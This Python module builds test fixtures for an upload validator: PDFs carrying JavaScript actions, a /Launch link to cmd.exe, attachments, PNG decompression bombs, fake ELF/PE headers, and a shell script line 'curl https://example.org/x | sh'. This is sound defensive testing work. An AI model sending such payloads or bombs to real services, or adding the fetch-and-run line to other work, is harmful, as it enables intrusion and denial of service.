"""Build real good and bad files for the upload validation tests.

Every file is made for real with the libraries that read them (pypdf, Pillow, zipfile, zlib)
or byte by byte where the point is a malformed or hostile structure, so the tests exercise
the same code paths a real upload would.
"""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from pathlib import Path

from PIL import Image
from pypdf import PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    StreamObject,
    TextStringObject,
)

# --------------------------------------------------------------------------------------------
# PDFs
# --------------------------------------------------------------------------------------------


def _write(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_bytes(pages: int = 1) -> bytes:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=595, height=842)
    return _write(writer)


def pdf_without_pages() -> bytes:
    return _write(PdfWriter())


def encrypted_pdf(*, user_password: str, owner_password: str | None = None) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.encrypt(user_password, owner_password, algorithm="AES-256")
    return _write(writer)


def pdf_with_javascript() -> bytes:
    """Document-level JavaScript in the /Names tree (what ``add_js`` used to make)."""
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.add_open_action(JavaScript("app.alert('hello');"))
    return _write(writer)


def pdf_with_open_action_javascript() -> bytes:
    """The catalog's /OpenAction runs a script when the PDF opens."""
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    action = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Action"),
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject("app.launchURL('https://example.org');"),
        }
    )
    writer.root_object[NameObject("/OpenAction")] = writer._add_object(action)
    return _write(writer)


def pdf_with_launch_link() -> bytes:
    """A link annotation whose action launches a program: reached only through the page."""
    writer = PdfWriter()
    page = writer.add_blank_page(width=595, height=842)
    annotation = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([FloatObject(0), FloatObject(0)] * 2),
            NameObject("/A"): DictionaryObject(
                {
                    NameObject("/S"): NameObject("/Launch"),
                    NameObject("/F"): TextStringObject("cmd.exe"),
                }
            ),
        }
    )
    page[NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])
    return _write(writer)


def pdf_with_attachment() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.add_attachment("invoice.txt", b"not what it seems")
    return _write(writer)


def pdf_with_orphan_javascript() -> bytes:
    """A script action no reference leads to: only the raw byte scan can see it."""
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer._add_object(
        DictionaryObject(
            {
                NameObject("/S"): NameObject("/JavaScript"),
                NameObject("/JS"): TextStringObject("app.alert(1);"),
            }
        )
    )
    return _write(writer)


def pdf_with_outline_javascript() -> bytes:
    """A bookmark whose action is a script: deep in the outline, not on a page."""
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    item = writer.add_outline_item(title="Chapter 1", page_number=0)
    item_object = item.get_object()
    item_object[NameObject("/A")] = DictionaryObject(
        {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("1;")}
    )
    return _write(writer)


def truncated_pdf(keep: float = 0.6) -> bytes:
    data = pdf_bytes(pages=3)
    return data[: int(len(data) * keep)]


def pdf_with_text_in_stream(text: bytes) -> bytes:
    """A page whose content stream holds ``text``: stream bodies are not scanned for names."""
    writer = PdfWriter()
    page = writer.add_blank_page(width=595, height=842)
    content = StreamObject()
    content.set_data(b"% " + text + b"\nq Q\n")
    page[NameObject("/Contents")] = writer._add_object(content)
    return _write(writer)


def write_large_pdf(path: Path, *, target_bytes: int, seed: int = 7) -> int:
    """A valid PDF of about ``target_bytes``: pages showing incompressible grey images."""
    rng = random.Random(seed)
    side = 1024  # one 1 MiB 8-bit grey image per page
    writer = PdfWriter()
    for _ in range(max(1, target_bytes // (side * side))):
        page = writer.add_blank_page(width=595, height=842)
        image = StreamObject()
        image.set_data(rng.randbytes(side * side))
        image.update(
            {
                NameObject("/Type"): NameObject("/XObject"),
                NameObject("/Subtype"): NameObject("/Image"),
                NameObject("/Width"): NumberObject(side),
                NameObject("/Height"): NumberObject(side),
                NameObject("/ColorSpace"): NameObject("/DeviceGray"),
                NameObject("/BitsPerComponent"): NumberObject(8),
            }
        )
        image_ref = writer._add_object(image)
        page[NameObject("/Resources")] = DictionaryObject(
            {NameObject("/XObject"): DictionaryObject({NameObject("/Im0"): image_ref})}
        )
        content = StreamObject()
        content.set_data(b"q 595 0 0 842 0 0 cm /Im0 Do Q\n")
        page[NameObject("/Contents")] = writer._add_object(content)
    with path.open("wb") as out:
        writer.write(out)
    return path.stat().st_size


# --------------------------------------------------------------------------------------------
# Images
# --------------------------------------------------------------------------------------------


def png_bytes(width: int = 64, height: int = 48, mode: str = "RGB") -> bytes:
    out = io.BytesIO()
    Image.new(mode, (width, height), color=(200, 30, 30) if mode == "RGB" else 128).save(out, "PNG")
    return out.getvalue()


def jpeg_bytes(width: int = 64, height: int = 48, *, progressive: bool = False) -> bytes:
    out = io.BytesIO()
    image = Image.effect_noise((width, height), 40).convert("RGB")
    image.save(out, "JPEG", quality=85, progressive=progressive)
    return out.getvalue()


def jpeg_with_comment(comment: bytes) -> bytes:
    """A JPEG with a COM segment right after SOI (it may hold an end-of-image marker)."""
    data = jpeg_bytes()
    segment = b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment
    return data[:2] + segment + data[2:]


def gif_bytes() -> bytes:
    out = io.BytesIO()
    Image.new("P", (16, 16)).save(out, "GIF")
    return out.getvalue()


def png_chunk(chunk_type: bytes, data: bytes) -> bytes:
    crc = zlib.crc32(chunk_type + data) & 0xFFFFFFFF
    return struct.pack(">I", len(data)) + chunk_type + data + struct.pack(">I", crc)


def _ihdr(width: int, height: int, *, colour_type: int) -> bytes:
    return png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, colour_type, 0, 0, 0))


def png_declaring_size(width: int, height: int) -> bytes:
    """A tiny PNG whose header claims a huge canvas, with only a few rows of data."""
    rows = zlib.compress(b"\x00" * (width + 1) * 4)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _ihdr(width, height, colour_type=0)
        + png_chunk(b"IDAT", rows)
        + png_chunk(b"IEND", b"")
    )


def write_png(
    path: Path, width: int, height: int, *, grey: bool = True, level: int = 9, fill: int = 0
) -> int:
    """Stream a real PNG to disk row by row, never holding the image in memory.

    ``level=9`` with a flat fill makes a decompression bomb (a small file, a huge image);
    ``level=0`` makes a file as large as the raw pixels.
    """
    channels = 1 if grey else 3
    row = b"\x00" + bytes([fill]) * (width * channels)
    compressor = zlib.compressobj(level)
    with path.open("wb") as out:
        out.write(b"\x89PNG\r\n\x1a\n")
        out.write(_ihdr(width, height, colour_type=0 if grey else 2))
        pending = b""
        for _ in range(height):
            pending += compressor.compress(row)
            if len(pending) >= 1 << 20:
                out.write(png_chunk(b"IDAT", pending))
                pending = b""
        pending += compressor.flush()
        out.write(png_chunk(b"IDAT", pending))
        out.write(png_chunk(b"IEND", b""))
    return path.stat().st_size


def png_with_chunk_before_iend(chunk_type: bytes, data: bytes) -> bytes:
    png = png_bytes()
    iend = png.rindex(b"IEND") - 4
    return png[:iend] + png_chunk(chunk_type, data) + png[iend:]


def png_with_bad_crc() -> bytes:
    png = bytearray(png_bytes())
    idat = png.index(b"IDAT")
    length = struct.unpack(">I", png[idat - 4 : idat])[0]
    png[idat + 4 + length] ^= 0xFF  # first byte of the IDAT CRC
    return bytes(png)


def truncated(data: bytes, keep: float = 0.6) -> bytes:
    return data[: int(len(data) * keep)]


# --------------------------------------------------------------------------------------------
# Payloads and impostors
# --------------------------------------------------------------------------------------------


def zip_bytes(name: str = "payload.sh", content: bytes = b"#!/bin/sh\necho owned\n") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, content)
    return out.getvalue()


def elf_bytes() -> bytes:
    header = b"\x7fELF\x02\x01\x01" + b"\x00" * 9  # 64-bit, little-endian, version 1
    return header + struct.pack("<HHI", 2, 0x3E, 1) + b"\x00" * 200


def pe_bytes() -> bytes:
    dos = bytearray(b"MZ" + b"\x00" * 0x7E)
    struct.pack_into("<I", dos, 0x3C, 0x80)  # e_lfanew: where the PE header starts
    return bytes(dos) + b"PE\x00\x00" + struct.pack("<HH", 0x8664, 1) + b"\x00" * 200


def shell_script_bytes() -> bytes:
    return b"#!/bin/sh\ncurl https://example.org/x | sh\n"


def html_bytes() -> bytes:
    return b"<!DOCTYPE html>\n<html><body><script>alert(1)</script></body></html>\n"


def random_bytes(size: int, seed: int = 1) -> bytes:
    return random.Random(seed).randbytes(size)


def write_file(path: Path, size: int, *, head: bytes = b"", pattern: bytes = b"\x00") -> int:
    """A file of ``size`` bytes starting with ``head``, written in 1 MiB blocks."""
    block = (pattern * ((1 << 20) // len(pattern) + 1))[: 1 << 20]
    with path.open("wb") as out:
        out.write(head)
        remaining = size - len(head)
        while remaining > 0:
            out.write(block[:remaining])
            remaining -= min(len(block), remaining)
    return size


class CountingStream:
    """A non-seekable stream (like a socket or a generator) that counts what is read."""

    def __init__(self, total: int, *, head: bytes = b"", filler: int = 0x20) -> None:
        self.total = total
        self.head = head
        self.filler = filler
        self.bytes_read = 0

    def read(self, size: int = -1) -> bytes:
        if size is None or size < 0:
            raise AssertionError("the validator must never read the whole stream at once")
        start = self.bytes_read
        size = min(size, self.total - start)
        from_head = self.head[start : start + size]
        data = from_head + bytes([self.filler]) * (size - len(from_head))
        self.bytes_read += len(data)
        return data

    def seekable(self) -> bool:
        return False
